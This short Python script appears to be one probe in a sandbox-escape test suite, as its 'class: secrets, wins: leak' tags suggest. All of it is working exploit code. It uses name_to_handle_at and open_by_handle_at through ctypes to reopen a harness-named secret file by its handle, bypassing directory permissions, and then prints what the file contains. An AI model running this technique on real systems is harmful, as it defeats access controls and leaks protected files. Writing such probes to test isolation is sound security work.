"""Opens the secret by its file handle, past every directory's permissions."""

# ruff: noqa
# class: secrets
# wins: leak
# proof: plain-root

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
handle = ctypes.create_string_buffer(b"\x80\0\0\0" + b"\0" * 132)
mount = ctypes.c_int()
libc.name_to_handle_at(-100, SCENE["secret"].encode(), handle, ctypes.byref(mount), 0)
root = os.open("/", os.O_RDONLY)
taken = libc.open_by_handle_at(root, handle, os.O_RDONLY)
print(os.read(taken, 4096))
